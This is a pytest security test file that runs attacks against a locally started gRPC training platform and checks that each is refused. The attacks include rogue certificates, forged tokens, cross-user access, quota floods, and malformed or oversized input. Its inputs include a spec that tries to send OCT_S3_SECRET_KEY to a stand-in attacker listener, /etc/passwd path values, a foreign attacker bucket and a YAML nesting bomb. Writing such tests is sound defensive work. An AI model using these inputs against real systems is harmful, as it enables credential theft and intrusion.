"""Attacks on the running services: all five over real gRPC on 127.0.0.1, with TLS, tokens and
the operator's limits, as a client on the network would try them."""

from __future__ import annotations

import http.server
import logging
import math
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import grpc
import pytest
from character.controller.executor import StageState
from character.controller.runs import RunRecord, StageRecord, save_run
from character.platform import Limits, PlatformConfig
from character.security.pki import ensure_local_pki, issue
from character.store import open_store
from grpc_health.v1 import health_pb2, health_pb2_grpc

from character_services.api.character.v1 import (
    common_pb2,
    controller_pb2,
    controller_pb2_grpc,
    generation_pb2,
    generation_pb2_grpc,
    training_pb2,
    training_pb2_grpc,
)
from character_services.cli import start_all
from character_services.common.catalog import SERVICES
from tests.fixtures.network import free_service_port
from tests.fixtures.security import Credentials
from tests.integration.services.conftest import Cluster, wait_for

LIMITS = Limits(max_active_runs_per_owner=2, max_streams_per_caller=64, max_conversations=64, max_new_tokens=256)
PLATFORM = PlatformConfig(limits=LIMITS, task_clients=["oct-local"])
SPEC = ("constitution: sarcasm\nmodel: tiny\n"
        "stages: {prompts: {target_per_trait: 50, max_rounds: 40, max_new_tokens: 8}}\n")
INVALID = grpc.StatusCode.INVALID_ARGUMENT
USER = [common_pb2.Conversation(messages=[common_pb2.Message(role="user", content="hi")])]
TINY = common_pb2.ModelRef(name="tiny")


@pytest.fixture(scope="module")
def cluster(secure_env: Credentials, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    store = str(tmp_path_factory.mktemp("store"))
    running = Cluster({s.info.name: s for s in start_all(store, "127.0.0.1", base_port=0, platform=PLATFORM)}, store)
    yield running
    running.stop()


def controller(cluster: Cluster, credentials: Credentials, user: str | None = "root") -> Any:
    return controller_pb2_grpc.ControllerServiceStub(credentials.channel(cluster.address("controller"), user))


def code_of(call: Any, request: Any, **kw: Any) -> grpc.StatusCode:
    with pytest.raises(grpc.RpcError) as caught:
        result = call(request, timeout=30, **kw)
        if hasattr(result, "__next__"):
            list(result)
    return caught.value.code()  # type: ignore[no-any-return]


def submit(cluster: Cluster, credentials: Credentials, user: str, seed: int) -> str:
    ctl = controller(cluster, credentials, user)
    run = ctl.SubmitRun(controller_pb2.SubmitRunRequest(spec_yaml=SPEC + f"seed: {seed}\n"), timeout=60).run
    return str(run.run_id)


# ---------------------------------------------------------------------- transport
@pytest.mark.attack("plaintext client calls the controller and a worker")
def test_plaintext_clients_are_refused(cluster: Cluster) -> None:
    for name in ("controller", "training"):
        stub = health_pb2_grpc.HealthStub(grpc.insecure_channel(cluster.address(name)))
        assert code_of(stub.Check, health_pb2.HealthCheckRequest()) == grpc.StatusCode.UNAVAILABLE


@pytest.mark.attack("StartTask / Generate from a client without a certificate")
def test_workers_refuse_clients_without_a_certificate(cluster: Cluster, credentials: Credentials,
                                                      tmp_path: Path) -> None:
    (tmp_path / "ca-only").mkdir()
    (tmp_path / "ca-only" / "ca.crt").write_bytes((credentials.tls_dir / "ca.crt").read_bytes())
    channel = credentials.channel(cluster.address("generation"), user=None, tls_dir=tmp_path / "ca-only")
    gen = generation_pb2_grpc.GenerationServiceStub(channel)
    assert code_of(gen.Generate, generation_pb2.GenerateRequest(model=TINY, conversations=USER)) \
        == grpc.StatusCode.UNAVAILABLE


@pytest.mark.attack("StartTask from a certificate of another CA")
def test_workers_refuse_certificates_of_another_ca(cluster: Cluster, credentials: Credentials, tmp_path: Path) -> None:
    rogue = issue(ensure_local_pki(tmp_path).parent, "oct-local", ["127.0.0.1"], tmp_path / "rogue")
    channel = credentials.channel(cluster.address("training"), user=None, tls_dir=rogue)
    train = training_pb2_grpc.TrainingServiceStub(channel)
    request = training_pb2.TrainingServiceStartTaskRequest(task=common_pb2.StageTask(
        run_id="run-x", stage="dpo", store_uri=cluster.store, attempt=1))
    assert code_of(train.StartTask, request) == grpc.StatusCode.UNAVAILABLE


@pytest.mark.attack("StartTask from a platform certificate that is not the controller's")
def test_task_rpcs_only_from_the_controller(cluster: Cluster, credentials: Credentials) -> None:
    channel = credentials.channel(cluster.address("training"), user=None, tls_dir=credentials.client_dir("intruder"))
    train = training_pb2_grpc.TrainingServiceStub(channel)
    request = training_pb2.TrainingServiceStartTaskRequest(task=common_pb2.StageTask(
        run_id="run-x", stage="dpo", store_uri=cluster.store, attempt=1))
    assert code_of(train.StartTask, request) == grpc.StatusCode.PERMISSION_DENIED


def test_health_answers_in_plaintext_on_its_own_port(cluster: Cluster) -> None:
    for name, server in cluster.servers.items():
        stub = health_pb2_grpc.HealthStub(grpc.insecure_channel(f"127.0.0.1:{server.health_port_bound}"))
        for service in ("", SERVICES[name].full_name):
            reply = stub.Check(health_pb2.HealthCheckRequest(service=service), timeout=5)
            assert reply.status == health_pb2.HealthCheckResponse.SERVING


# ---------------------------------------------------------------------- who may do what
@pytest.mark.attack("call the controller with no token or a made-up one")
def test_no_or_unknown_token_is_unauthenticated(cluster: Cluster, credentials: Credentials) -> None:
    anonymous = controller(cluster, credentials, user=None)
    assert code_of(anonymous.ListRuns, controller_pb2.ListRunsRequest()) == grpc.StatusCode.UNAUTHENTICATED
    assert code_of(anonymous.SubmitRun, controller_pb2.SubmitRunRequest(spec_yaml=SPEC)) \
        == grpc.StatusCode.UNAUTHENTICATED
    forged = [("authorization", "Bearer token-of-nobody")]
    assert code_of(anonymous.ListRuns, controller_pb2.ListRunsRequest(), metadata=forged) \
        == grpc.StatusCode.UNAUTHENTICATED


@pytest.fixture(scope="module")
def alices_run(cluster: Cluster, credentials: Credentials) -> Iterator[str]:
    run_id = submit(cluster, credentials, "alice", seed=1)
    yield run_id
    controller(cluster, credentials, "alice").CancelRun(controller_pb2.CancelRunRequest(run_id=run_id), timeout=30)


@pytest.mark.attack("get, watch or cancel another user's run")
def test_another_owners_run_is_permission_denied(cluster: Cluster, credentials: Credentials, alices_run: str) -> None:
    bob = controller(cluster, credentials, "bob")
    for call, request in ((bob.GetRun, controller_pb2.GetRunRequest(run_id=alices_run)),
                          (bob.WatchRun, controller_pb2.WatchRunRequest(run_id=alices_run)),
                          (bob.CancelRun, controller_pb2.CancelRunRequest(run_id=alices_run))):
        assert code_of(call, request) == grpc.StatusCode.PERMISSION_DENIED
    assert alices_run not in [r.run_id for r in bob.ListRuns(controller_pb2.ListRunsRequest(), timeout=30).runs]
    run = controller(cluster, credentials, "root").GetRun(controller_pb2.GetRunRequest(run_id=alices_run), timeout=30)
    assert run.run.state != common_pb2.RUN_STATE_CANCELLED  # bob's cancel changed nothing


@pytest.mark.attack("read server paths or secrets out of a run record or an error")
def test_runs_and_errors_show_no_server_paths(cluster: Cluster, credentials: Credentials, alices_run: str) -> None:
    alice = controller(cluster, credentials, "alice")
    run = alice.GetRun(controller_pb2.GetRunRequest(run_id=alices_run), timeout=30).run
    assert run.spec_yaml and cluster.store not in str(run)  # every field, in protobuf's text form
    with pytest.raises(grpc.RpcError) as caught:
        alice.GetRun(controller_pb2.GetRunRequest(run_id="run-nope"), timeout=30)
    assert "run-nope" in caught.value.details() and cluster.store not in caught.value.details()


def test_submit_and_cancel_leave_audit_lines_naming_the_caller(cluster: Cluster, credentials: Credentials,
                                                               caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="character_services.audit")
    run_id = submit(cluster, credentials, "bob", seed=11)
    controller(cluster, credentials, "bob").CancelRun(controller_pb2.CancelRunRequest(run_id=run_id), timeout=30)
    lines = [(r.getMessage(), getattr(r, "caller", None), getattr(r, "run_id", None))
             for r in caplog.records if r.name == "character_services.audit"]
    assert ("submit", "bob", run_id) in lines and ("cancel", "bob", run_id) in lines


@pytest.mark.attack("one user floods the controller with concurrent runs")
def test_per_owner_quota_on_active_runs(cluster: Cluster, credentials: Credentials, alices_run: str) -> None:
    second = submit(cluster, credentials, "alice", seed=2)
    try:
        ctl = controller(cluster, credentials, "alice")
        request = controller_pb2.SubmitRunRequest(spec_yaml=SPEC + "seed: 3\n")
        assert code_of(ctl.SubmitRun, request) == grpc.StatusCode.RESOURCE_EXHAUSTED
    finally:
        controller(cluster, credentials, "alice").CancelRun(controller_pb2.CancelRunRequest(run_id=second), timeout=30)


# ---------------------------------------------------------------------- specs
class Listener(http.server.ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 that records every request it gets (the attacker's)."""

    def __init__(self) -> None:
        self.received: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # http.server's name
                listener.received.append(f"{self.path} {self.headers.get('Authorization')}")
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.mark.attack("spec endpoint sends OCT_S3_SECRET_KEY to the attacker's listener")
def test_exfiltration_spec_is_refused_and_the_listener_hears_nothing(cluster: Cluster, credentials: Credentials,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OCT_S3_SECRET_KEY", "the-minio-root-password")
    listener = Listener()
    try:
        spec = (SPEC + f"teacher: thief\nendpoints: {{thief: {{base_url: 'http://127.0.0.1:{listener.server_port}/v1', "
                "api_key_env: OCT_S3_SECRET_KEY}}\n")
        ctl = controller(cluster, credentials, "bob")
        with pytest.raises(grpc.RpcError) as caught:
            ctl.SubmitRun(controller_pb2.SubmitRunRequest(spec_yaml=spec), timeout=30)
        assert caught.value.code() == INVALID
        assert "endpoints" in caught.value.details()
        time.sleep(1.0)
        assert listener.received == []
    finally:
        listener.shutdown()


HOLES = {
    "model /etc": "model: /etc\n",
    "teacher /etc": "teacher: /etc\n",
    "chat_prompts /etc/passwd": "chat_prompts: /etc/passwd\n",
    "seed 10**30": f"seed: {10**30}\n",
    "judge in a foreign bucket": "judge: s3://someone-elses-bucket/model\n",
}


@pytest.mark.attack("SubmitRun with a server path, foreign bucket or huge seed")
@pytest.mark.parametrize("line", list(HOLES.values()), ids=list(HOLES))
def test_measured_holes_are_refused_at_submit(cluster: Cluster, credentials: Credentials, line: str) -> None:
    ctl = controller(cluster, credentials, "bob")
    with pytest.raises(grpc.RpcError) as caught:
        ctl.SubmitRun(controller_pb2.SubmitRunRequest(spec_yaml=SPEC + line), timeout=30)
    assert caught.value.code() == INVALID
    assert cluster.store not in caught.value.details()


@pytest.mark.attack("malformed input: deep nesting, undecodable bytes, NaN steering")
def test_malformed_input_is_invalid_argument_not_internal(cluster: Cluster, credentials: Credentials) -> None:
    ctl = controller(cluster, credentials, "bob")
    deep = controller_pb2.SubmitRunRequest(spec_yaml="constitution: " + "[" * 50_000 + "]" * 50_000)
    assert code_of(ctl.SubmitRun, deep) == INVALID
    raw = credentials.channel(cluster.address("controller"), "bob").unary_unary(
        "/character.v1.ControllerService/SubmitRun", request_serializer=lambda b: b, response_deserializer=None)
    assert code_of(raw, b"\x0a\x04\xff\xfe\xfd\xfc") == INVALID  # spec_yaml that is not UTF-8
    gen = generation_pb2_grpc.GenerationServiceStub(credentials.channel(cluster.address("generation"), None))
    for steering in (common_pb2.Steering(vectors={0: common_pb2.SteeringVector(values=[1.0])}, coefficient=math.nan),
                     common_pb2.Steering(vectors={0: common_pb2.SteeringVector(values=[math.inf])}, coefficient=1)):
        request = generation_pb2.GenerateRequest(model=TINY, conversations=USER, steering=steering)
        assert code_of(gen.Generate, request) == INVALID


@pytest.mark.attack("Generate with more conversations or tokens than the operator allows")
def test_oversized_generate_is_refused(cluster: Cluster, credentials: Credentials) -> None:
    gen = generation_pb2_grpc.GenerationServiceStub(credentials.channel(cluster.address("generation"), None))
    many = generation_pb2.GenerateRequest(model=TINY, conversations=USER * (LIMITS.max_conversations + 1))
    assert code_of(gen.Generate, many) == INVALID
    long = generation_pb2.GenerateRequest(model=TINY, conversations=USER,
                                          sampling=common_pb2.SamplingParams(max_new_tokens=LIMITS.max_new_tokens + 1))
    assert code_of(gen.Generate, long) == INVALID


@pytest.mark.attack("Generate names a foreign store_uri (another bucket's models)")
def test_workers_ignore_a_clients_store(cluster: Cluster, credentials: Credentials) -> None:
    gen = generation_pb2_grpc.GenerationServiceStub(credentials.channel(cluster.address("generation"), None))
    request = generation_pb2.GenerateRequest(model=TINY, conversations=USER, store_uri="s3://attacker/bucket",
                                             sampling=common_pb2.SamplingParams(max_new_tokens=2))
    assert len(gen.Generate(request, timeout=120).generations) == 1  # served from the platform's own store


# ---------------------------------------------------------------------- starvation
@pytest.mark.attack("64 idle WatchRun streams starve health checks")
def test_idle_watch_streams_do_not_starve_health(cluster: Cluster, credentials: Credentials) -> None:
    at = datetime.now(UTC)
    record = RunRecord(run_id="run-idle", spec={"constitution": "sarcasm"}, owner="root", created_at=at, updated_at=at,
                       stages={"prompts": StageRecord(key="k", state=StageState.RUNNING, attempts=1)},
                       state=StageState.RUNNING)
    save_run(open_store(cluster.store), record)  # running, but no stage will ever report: watches stay idle
    channel = credentials.channel(cluster.address("controller"), "root")
    ctl = controller_pb2_grpc.ControllerServiceStub(channel)
    streams = [ctl.WatchRun(controller_pb2.WatchRunRequest(run_id="run-idle")) for _ in range(64)]
    try:
        for stream in streams:
            next(stream)  # open and idle
        health = health_pb2_grpc.HealthStub(
            grpc.insecure_channel(f"127.0.0.1:{cluster.servers['controller'].health_port_bound}"))
        started = time.monotonic()
        reply = health.Check(health_pb2.HealthCheckRequest(), timeout=1.0)
        assert reply.status == health_pb2.HealthCheckResponse.SERVING
        assert time.monotonic() - started < 1.0
        assert code_of(ctl.WatchRun, controller_pb2.WatchRunRequest(run_id="run-idle")) \
            == grpc.StatusCode.RESOURCE_EXHAUSTED  # the 65th from one caller
    finally:
        for stream in streams:
            stream.cancel()


# ---------------------------------------------------------------------- the embedded default
def test_oct_up_is_tls_with_a_local_token_and_the_client_needs_no_flags(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("OCT_TLS_DIR", "OCT_TOKEN", "OCT_AUTH_TOKENS")}
    env["OCT_HOME"] = str(tmp_path / "home")
    oct = str(Path(sys.executable).with_name("oct"))
    base = free_service_port(len(SERVICES))  # a port another process holds would keep `oct up` from starting
    proc = subprocess.Popen([oct, "up", "--base-port", str(base), "--store", str(tmp_path / "store")],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        address = f"127.0.0.1:{base}"

        def listed() -> bool:
            assert proc.poll() is None, f"oct up exited: {proc.communicate()[0][-2000:]}"
            done = subprocess.run([oct, "list", "--controller", address], env=env, capture_output=True, text=True,
                                  timeout=60)
            return done.returncode == 0

        wait_for(listed, 120, "`oct list` against `oct up` with no flags")
        assert (tmp_path / "home" / "tls" / "ca.crt").is_file() and (tmp_path / "home" / "auth" / "token").is_file()
        plain = controller_pb2_grpc.ControllerServiceStub(grpc.insecure_channel(address))
        assert code_of(plain.ListRuns, controller_pb2.ListRunsRequest()) == grpc.StatusCode.UNAVAILABLE
    finally:
        proc.terminate()
        proc.wait(60)


def test_plaintext_needs_asking_for_and_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                caplog: pytest.LogCaptureFixture) -> None:
    from character.errors import InvalidInput

    from character_services.common.security import Transport

    for name in ("OCT_TLS_DIR", "OCT_INSECURE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OCT_HOME", str(tmp_path))  # no local CA here
    with pytest.raises(InvalidInput, match="--insecure"):
        Transport.resolve()
    assert Transport.resolve(insecure=True).insecure
    assert any(r.levelno == logging.WARNING and "plaintext" in r.getMessage() for r in caplog.records)
